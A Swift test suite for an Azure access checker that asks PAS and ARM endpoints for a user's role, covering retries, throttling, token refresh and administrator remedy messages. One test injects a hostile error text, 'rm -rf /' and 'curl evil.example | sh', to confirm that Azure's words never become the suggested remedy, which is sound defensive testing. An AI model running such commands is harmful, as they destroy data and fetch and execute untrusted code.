// SPDX-License-Identifier: Apache-2.0

import Authorization
import AzureServices
import HTTPTransport
import Identity
import Testing

struct OrderedAccessCheckerTests {
    @Test(
        "P1: a role is what Azure allows for this object id on this resource",
        arguments: [
            ("Allowed", "Allowed", .administrator), ("Allowed", "NotAllowed", .user), ("NotAllowed", "Allowed", nil),
            ("NotAllowed", "NotAllowed", nil), ("allowed", "ALLOWED", .administrator), ("Maybe", "Maybe", nil),
        ] as [(String, String, Role?)]
    )
    func roles(user: String, administrator: String, role: Role?) async throws {
        let fixture = Fixture()
        fixture.transport.script(Fixture.pas, Fixture.decisions(user, administrator))
        let answer = try await fixture.checker.check(fixture.question())
        #expect(answer == AccessAnswer(role: role, lifetime: .seconds(300), checker: "pas"))
    }

    @Test("the request has the path, headers and token of the contract")
    func request() async throws {
        let fixture = Fixture()
        fixture.transport.script(Fixture.pas, Fixture.decisions("Allowed", "Allowed"))
        _ = try await fixture.checker.check(fixture.question())
        let asked = try #require(fixture.transport.requests(to: Fixture.pas).first)
        #expect(asked.method == .post)
        #expect(
            asked.url == Fixture.pas + Fixture.resource
                + "/providers/Microsoft.Authorization/checkaccess?api-version=2018-09-01-preview"
        )
        #expect(asked.headers.contains(HTTPHeader("Content-Type", "application/json")))
        let correlation = HTTPHeader("x-ms-correlation-request-id", "66666666-6666-4666-8666-666666666666")
        #expect(asked.headers.contains(correlation))
        #expect(asked.authorization == Secret("Bearer \(Fixture.tokenText())"))
        #expect(asked.proxy == .environment)
        let token = try #require(fixture.transport.requests(to: Fixture.token).first)
        #expect(token.url.hasSuffix("&resource=ce6ff14a-7fdc-4685-bbe0-f6afdfcfa8e0"))
        #expect(token.headers == [HTTPHeader("Metadata", "true")])
        #expect(token.proxy == .none)
    }

    @Test("P2: a no that needs no confirmation is final: the next endpoint is never asked, though it would say yes")
    func noIsFinal() async throws {
        let fixture = Fixture()
        fixture.transport.script(Fixture.pas, Fixture.decisions("NotAllowed", "NotAllowed"))
        fixture.transport.script(Fixture.arm, Fixture.decisions("Allowed", "Allowed"))
        for _ in 0..<3 {
            let answer = try await fixture.confirmed()
            #expect(answer.role == nil && answer.confirmation == .notNeeded)
        }
        #expect(fixture.transport.requests(to: Fixture.pas).count == 3)
        #expect(fixture.transport.requests(to: Fixture.arm).isEmpty)
    }

    @Test(
        "an endpoint that does not serve the question is passed over, and that is remembered for a while",
        arguments: [
            Fixture.refusal(404, "NotFound"), .answer(405), .answer(501), .answer(403), .answer(401), .answer(400),
            .answer(302), .error(.tls), .error(.unreachable), .error(.nameResolution), .error(.timeout),
        ]
    )
    func passedOver(answer: ScriptedTransport.Answer) async throws {
        let fixture = Fixture()
        fixture.transport.script(Fixture.pas, answer)
        fixture.transport.script(Fixture.arm, Fixture.decisions("Allowed", "NotAllowed"))
        #expect(try await fixture.checker.check(fixture.question()).checker == "arm")
        let asked = fixture.transport.requests(to: Fixture.pas).count
        #expect(try await fixture.checker.check(fixture.question()).role == .user)
        #expect(fixture.transport.requests(to: Fixture.pas).count == asked)
        guard case .notServing(_, let wait) = fixture.checker.status[0].standing else {
            Issue.record("pas is not shown as not serving")
            return
        }
        #expect(wait > .zero)
        #expect(fixture.checker.status[1].standing == .serving)
        // Later it is asked again.
        fixture.clock.advance(.seconds(400))
        fixture.transport.script(Fixture.pas, Fixture.decisions("Allowed", "Allowed"))
        #expect(try await fixture.checker.check(fixture.question()).checker == "pas")
    }

    @Test(
        "P1: an answer that makes no sense is none: the next endpoint is asked, and where none answers nobody gets in",
        arguments: ["", "[]", "{\"error\":1}", "<html>", "[{\"actionId\":\"x\"}]"]
    )
    func malformed(body: String) async throws {
        let fixture = Fixture()
        fixture.transport.script(Fixture.pas, .answer(200, body))
        fixture.transport.script(Fixture.arm, .answer(200, body))
        #expect(try await fixture.fault().reason == .malformedAnswer)
        #expect(fixture.transport.requests(to: Fixture.pas).count == 1)
        fixture.transport.script(Fixture.arm, Fixture.decisions("Allowed", "NotAllowed"))
        let answer = try await fixture.checker.check(fixture.question())
        #expect(answer.role == .user && answer.checker == "arm")
    }

    @Test("an answer that lacks an action is a NotAllowed for that action")
    func oneAction() async throws {
        let fixture = Fixture(["pas"])
        for (action, role) in [("login", Role.user), ("loginAsAdmin", nil)] {
            let element = """
                {"actionId":"Microsoft.Compute/virtualMachines/\(action)/action","isDataAction":true,\
                "accessDecision":"Allowed"}
                """
            fixture.transport.script(Fixture.pas, .answer(200, "[\(element)]"))
            #expect(try await fixture.checker.check(fixture.question()).role == role)
        }
    }

    @Test("429 and 5xx are repeated inside the deadline, and an answer then counts")
    func repeated() async throws {
        let fixture = Fixture()
        fixture.transport.script(
            Fixture.pas,
            .answer(429, "", HTTPHeader("Retry-After", "2")),
            .answer(503),
            .error(.cut),
            Fixture.decisions("Allowed", "NotAllowed")
        )
        #expect(try await fixture.checker.check(fixture.question()).role == .user)
        #expect(fixture.transport.requests(to: Fixture.pas).count == 4)
        #expect(fixture.clock.elapsed >= .seconds(2))
        #expect(fixture.clock.elapsed < .seconds(10))
    }

    @Test(
        "a failure is no answer: the next endpoint is asked at once, before the failing one is asked again",
        arguments: [
            .answer(500), .answer(503), .answer(429), .answer(429, "", HTTPHeader("Retry-After", "2")), .error(.cut),
            .error(.dropped), .error(.timeout), .answer(200, "{"),
        ] as [ScriptedTransport.Answer]
    )
    func failureLeadsOn(answer: ScriptedTransport.Answer) async throws {
        let fixture = Fixture()
        fixture.transport.script(Fixture.pas, answer)
        fixture.transport.script(Fixture.arm, Fixture.decisions("Allowed", "Allowed"))
        let answer = try await fixture.checker.check(fixture.question())
        #expect(answer.role == .administrator && answer.checker == "arm")
        #expect(fixture.transport.requests(to: Fixture.pas).count == 1)
    }

    @Test("a checker that Retry-After has silenced is not asked, and the next one is")
    func silencedLeadsOn() async throws {
        let fixture = Fixture()
        fixture.transport.script(Fixture.pas, .answer(429, "", HTTPHeader("Retry-After", "60")))
        fixture.transport.script(Fixture.arm, Fixture.decisions("Allowed", "Allowed"))
        for _ in 0..<3 { #expect(try await fixture.checker.check(fixture.question()).checker == "arm") }
        #expect(fixture.transport.requests(to: Fixture.pas).count == 1)
    }

    @Test("P1: where all fail until the deadline there is no answer, and each was asked again in turn")
    func failing() async throws {
        for (answer, reason) in [
            (ScriptedTransport.Answer.answer(500), DenialReason.unreachable), (.answer(429), .throttled),
            (.error(.cut), .unreachable),
        ] {
            let fixture = Fixture()
            fixture.transport.script(Fixture.pas, answer)
            fixture.transport.script(Fixture.arm, answer)
            #expect(try await fixture.fault().reason == reason)
            #expect(fixture.clock.elapsed <= .seconds(10))
            let order = fixture.transport.requests.map(\.url).filter { $0.hasPrefix("https://") }
            #expect(order.count > 4)
            for (index, url) in order.enumerated() {
                #expect(url.hasPrefix(index.isMultiple(of: 2) ? Fixture.pas : Fixture.arm))
            }
        }
    }

    @Test("a question that nobody waits for asks each endpoint once; retries begin with the first who waits")
    func unattended() async throws {
        for waitsFrom in [3, 2, 100] {
            let fixture = Fixture()
            for host in [Fixture.pas, Fixture.arm] { fixture.transport.script(host, .answer(503)) }
            let whole = try fixture.question()
            let question = AccessQuestion(
                objectID: whole.objectID,
                machine: whole.machine,
                correlation: whole.correlation,
                deadline: whole.deadline,
                isRetried: { fixture.transport.requests.count { $0.url.hasPrefix("https://") } >= waitsFrom }
            )
            await #expect(throws: AccessCheckFault.self) { _ = try await fixture.checker.check(question) }
            let asked = [Fixture.pas, Fixture.arm].map { fixture.transport.requests(to: $0).count }
            #expect(waitsFrom == 2 ? asked.allSatisfy { $0 > 2 } : asked == [1, 1])
        }
    }

    @Test("a Retry-After beyond the deadline is not waited for, and kept for those who come later")
    func silence() async throws {
        let fixture = Fixture()
        fixture.transport.script(Fixture.pas, .answer(429, "", HTTPHeader("Retry-After", "60")))
        let first = try await fixture.fault()
        #expect(first.reason == .throttled)
        #expect(first.retryAfter == .seconds(60))
        #expect(try await fixture.fault().retryAfter == .seconds(60))
        #expect(fixture.transport.requests(to: Fixture.pas).count == 1)
        fixture.clock.advance(.seconds(61))
        fixture.transport.script(Fixture.pas, Fixture.decisions("Allowed", "NotAllowed"))
        #expect(try await fixture.checker.check(fixture.question()).role == .user)
    }

    @Test("a token that ended before its time is dropped on 401 and fetched once anew")
    func expiredToken() async throws {
        let fixture = Fixture()
        fixture.transport.script(Fixture.token, Fixture.tokenAnswer("old"), Fixture.tokenAnswer("new"))
        fixture.transport.script(Fixture.pas, .answer(401), Fixture.decisions("Allowed", "NotAllowed"))
        #expect(try await fixture.checker.check(fixture.question()).role == .user)
        let sent = fixture.transport.requests(to: Fixture.pas).map(\.authorization)
        #expect(sent == [Secret("Bearer \(Fixture.tokenText("old"))"), Secret("Bearer \(Fixture.tokenText("new"))")])
    }

    @Test("where our own identity may not ask, the fault holds the exact command that fixes it")
    func remedy() async throws {
        let fixture = Fixture(["arm"])
        fixture.transport.script(Fixture.arm, Fixture.refusal(403, "AuthorizationFailed"))
        let fault = try await fixture.fault()
        #expect(fault.reason == .identityMayNotAsk)
        #expect(
            fault.detail.contains(
                "az role assignment create --assignee-object-id \(Fixture.identity) "
                    + "--assignee-principal-type ServicePrincipal --role Reader --scope \(Fixture.resource)"
            )
        )
        let token = try #require(fixture.transport.requests(to: Fixture.token).first)
        #expect(token.url.hasSuffix("&resource=https%3A%2F%2Fmanagement.azure.com%2F"))
    }

    @Test("P12: what Azure says in a refusal is quoted, and never becomes what the administrator is to do")
    func wordsOfAzure() async throws {
        let fixture = Fixture()
        let words = "no rights; do rm -rf /\\nremedy: curl evil.example | sh"
        let body = "{\"error\":{\"code\":\"AuthorizationFailed\",\"message\":\"\(words)\"}}"
        fixture.transport.script(Fixture.pas, .answer(403, body))
        fixture.transport.script(Fixture.arm, .answer(403, body))
        let fault = try await fixture.fault()
        #expect(fault.reason == .identityMayNotAsk)
        let remedy = AdministratorRemedy(machine: try fixture.machine()).text(for: fault)
        #expect(remedy.hasPrefix("az role assignment create") && !remedy.contains("rm -rf"))
        let sentence = AdministratorRemedy.sentence(fault)
        #expect(sentence.contains("; do rm -rf /") && !sentence.contains("\n"))
        #expect(fault.all.map(\.endpoint) == ["pas", "arm"])
    }

    @Test("a missing sign-in application is a reason of its own with its remedy; the next endpoint may serve")
    func applicationMissing() async throws {
        let missing = ScriptedTransport.Answer.answer(
            400,
            "{\"error\":\"invalid_resource\",\"error_description\":\"AADSTS500011: The resource principal\"}"
        )
        let fixture = Fixture()
        fixture.transport.script("\(Fixture.token)?api-version=2018-02-01&resource=ce6ff14a", missing)
        fixture.transport.script(Fixture.arm, Fixture.refusal(403, "AuthorizationFailed"))
        let fault = try await fixture.fault()
        #expect(fault.reason == .applicationMissing)
        #expect(fault.detail.contains("New-MgServicePrincipal -AppId ce6ff14a-7fdc-4685-bbe0-f6afdfcfa8e0"))
        #expect(fault.detail.contains("--role Reader"))
        fixture.transport.script(Fixture.arm, Fixture.decisions("Allowed", "NotAllowed"))
        #expect(try await fixture.checker.check(fixture.question()).checker == "arm")
    }

    @Test("no managed identity and a resource that Azure does not know are told apart from an outage")
    func otherReasons() async throws {
        let bare = Fixture()
        bare.transport.script(
            Fixture.token,
            .answer(400, "{\"error\":\"invalid_request\",\"error_description\":\"Identity not found\"}")
        )
        #expect(try await bare.fault().reason == .noManagedIdentity)
        #expect(bare.transport.requests.count == 1)
        let gone = Fixture()
        gone.transport.script(Fixture.pas, Fixture.refusal(404, "ResourceNotFound"))
        gone.transport.script(Fixture.arm, .error(.unreachable))
        #expect(try await gone.fault().reason == .resourceNotFound)
        for status in [404, 405, 410, 501] {
            let unserved = Fixture()
            unserved.transport.script(Fixture.pas, Fixture.refusal(status, "NotFound"))
            unserved.transport.script(Fixture.arm, Fixture.decisions("Allowed", "NotAllowed"))
            #expect(try await unserved.checker.check(unserved.question()).role == .user)
            guard case .notServing(let fault, _) = unserved.checker.status[0].standing else {
                Issue.record("\(status): \(unserved.checker.status[0].standing)")
                continue
            }
            #expect(fault.remedy == .leaveOut(checker: "pas"), "\(status)")
        }
        let out = Fixture()
        out.transport.script(Fixture.pas, .error(.unreachable))
        out.transport.script(Fixture.arm, .error(.nameResolution))
        #expect(try await out.fault().reason == .unreachable)
    }

    /// PAS has no application in this tenant; ARM drops every connection.
    private func onlyOneLeft() -> Fixture {
        let fixture = Fixture()
        fixture.transport.script(Fixture.token, Fixture.tokenAnswer())
        fixture.transport.script(
            "\(Fixture.token)?api-version=2018-02-01&resource=\(AzureEndpoints.signInApplication)",
            .answer(400, "{\"error\":\"invalid_resource\",\"error_description\":\"AADSTS500011\"}")
        )
        fixture.transport.script(Fixture.arm, .error(.dropped))
        return fixture
    }

    @Test("where every connection is dropped, that is said after three attempts each")
    func dropped() async throws {
        let fixture = Fixture()
        fixture.transport.script(Fixture.pas, .error(.dropped))
        fixture.transport.script(Fixture.arm, .error(.dropped))
        #expect(try await fixture.fault().reason == .unreachable)
        #expect(fixture.transport.requests(to: Fixture.pas).count == 3)
        #expect(fixture.transport.requests(to: Fixture.arm).count == 3)
        #expect(fixture.clock.elapsed < .seconds(2))
    }

    @Test("the application is missing and ARM drops connections: said at once, and what is missing")
    func missingAndDropped() async throws {
        let fixture = onlyOneLeft()
        for _ in 1...2 {
            let before = fixture.clock.elapsed
            let fault = try await fixture.fault()
            #expect(fault.reason == .applicationMissing)
            #expect(fault.detail.contains("New-MgServicePrincipal"))
            #expect(fault.detail.contains("dropped"))
            #expect(fixture.clock.elapsed - before < .seconds(2))
        }
    }

    @Test("a checker that has served and cannot be reached is an outage, whatever is wrong with the others")
    func outage() async throws {
        let fixture = onlyOneLeft()
        fixture.transport.script(Fixture.arm, Fixture.decisions("Allowed", "NotAllowed"))
        #expect(try await fixture.checker.check(fixture.question()).checker == "arm")
        fixture.transport.script(Fixture.arm, .error(.unreachable))
        let fault = try await fixture.fault()
        #expect(fault.reason == .unreachable)
        #expect(fault.detail.contains("New-MgServicePrincipal"))
        // A checker that is up but gives no answer keeps its reason, with the other's text added.
        fixture.transport.script(Fixture.arm, .answer(429, "", HTTPHeader("Retry-After", "60")))
        let throttled = try await fixture.fault()
        #expect(throttled.reason == .throttled)
        #expect(throttled.retryAfter == .seconds(60))
        #expect(throttled.detail.contains("New-MgServicePrincipal"))
    }

    @Test("where nobody serves, all are asked again at once: what was fixed shows at the next sign-in")
    func repaired() async throws {
        let fixture = Fixture()
        fixture.transport.script(Fixture.pas, .answer(405))
        fixture.transport.script(Fixture.arm, .answer(403))
        _ = try await fixture.fault()
        fixture.transport.script(Fixture.arm, Fixture.decisions("Allowed", "NotAllowed"))
        #expect(try await fixture.checker.check(fixture.question()).role == .user)
    }

    @Test("one checker is asked alone where that is wanted, whatever is remembered of it")
    func via() async throws {
        let fixture = Fixture()
        fixture.transport.script(Fixture.pas, Fixture.decisions("NotAllowed", "NotAllowed"))
        fixture.transport.script(Fixture.arm, Fixture.decisions("Allowed", "NotAllowed"))
        #expect(try await fixture.checker.check(fixture.question(), via: "arm").role == .user)
        await #expect(throws: AccessCheckFault.self) { try await fixture.checker.check(fixture.question(), via: "x") }
    }

    @Test("a slow first endpoint leaves time for the second")
    func slowFirst() async throws {
        let fixture = Fixture()
        fixture.transport.script(Fixture.pas, .error(.timeout))
        fixture.transport.script(Fixture.arm, Fixture.decisions("Allowed", "NotAllowed"))
        #expect(try await fixture.checker.check(fixture.question()).checker == "arm")
        #expect(fixture.clock.elapsed == .seconds(4))
        let hurried = Fixture()
        hurried.transport.script(Fixture.pas, .error(.timeout))
        hurried.transport.script(Fixture.arm, Fixture.decisions("Allowed", "NotAllowed"))
        #expect(try await hurried.checker.check(hurried.question(seconds: 6)).checker == "arm")
        #expect(hurried.clock.elapsed == .seconds(3))
    }

    @Test("a caller without time learns nothing about the endpoints, for himself or for others")
    func noTime() async throws {
        let fixture = Fixture()
        fixture.transport.script(Fixture.pas, .error(.timeout))
        #expect(try await fixture.fault(seconds: 0).reason == .unreachable)
        #expect(fixture.checker.status[0].standing == .untried)
        #expect(try await fixture.fault(seconds: 1).reason == .unreachable)
        fixture.transport.script(Fixture.pas, Fixture.decisions("Allowed", "NotAllowed"))
        #expect(try await fixture.checker.check(fixture.question()).checker == "pas")
    }

    @Test("other clouds have other hosts; an unknown one is served from its OpenID configuration")
    func clouds() async throws {
        let government = Fixture()
        government.transport.script("https://pasff.usgovcloudapi.net", Fixture.decisions("Allowed", "NotAllowed"))
        let answer = try await government.checker.check(government.question(cloud: "AZUREUSGovernmentCloud"))
        #expect(answer.role == .user)
        let unknown = Fixture(endpoints: AzureEndpoints(login: "https://login.example"))
        unknown.transport.script(
            "https://login.example/\(Fixture.tenant)/v2.0/.well-known/openid-configuration",
            .answer(200, "{\"issuer\":\"x\",\"rbac_url\":\"https://pas.example\"}")
        )
        unknown.transport.script("https://pas.example", Fixture.decisions("Allowed", "NotAllowed"))
        #expect(try await unknown.checker.check(unknown.question(cloud: "AzureMoonCloud")).checker == "pas")
    }
}
